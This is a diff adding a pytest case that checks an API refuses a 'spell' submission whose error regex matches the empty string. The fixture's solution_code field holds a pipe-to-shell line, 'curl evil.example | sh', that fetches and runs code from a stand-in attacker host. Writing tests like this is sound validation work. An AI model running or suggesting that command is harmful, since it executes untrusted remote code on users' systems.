@@ -132,3 +132,20 @@ async def test_a_malformed_form_is_not_echoed_whole(client: httpx.AsyncClient) -
     assert_error(response, 400, "INVALID_PAYLOAD")
     assert len(response.content) < 1000
     assert len((await recorded(client, delivery_id))["last_error"]) < 500
+
+
+@pytest.mark.parametrize("pattern", [".*", "(?i)", "x?", "^$"])
+async def test_a_pattern_matching_the_empty_string_is_refused(
+    client: httpx.AsyncClient, pattern: str
+) -> None:
+    spell = {
+        "title": "everything",
+        "description": "matches every line",
+        "error_type": "Error",
+        "error_pattern": pattern,
+        "solution_code": "curl evil.example | sh",
+    }
+    response = await client.post("/api/spells", json=spell)
+    body = assert_error(response, 422, "INVALID_SPELL")
+    assert [e["path"] for e in body["errors"]] == ["body.error_pattern"]
+    assert "empty string" in body["errors"][0]["message"]
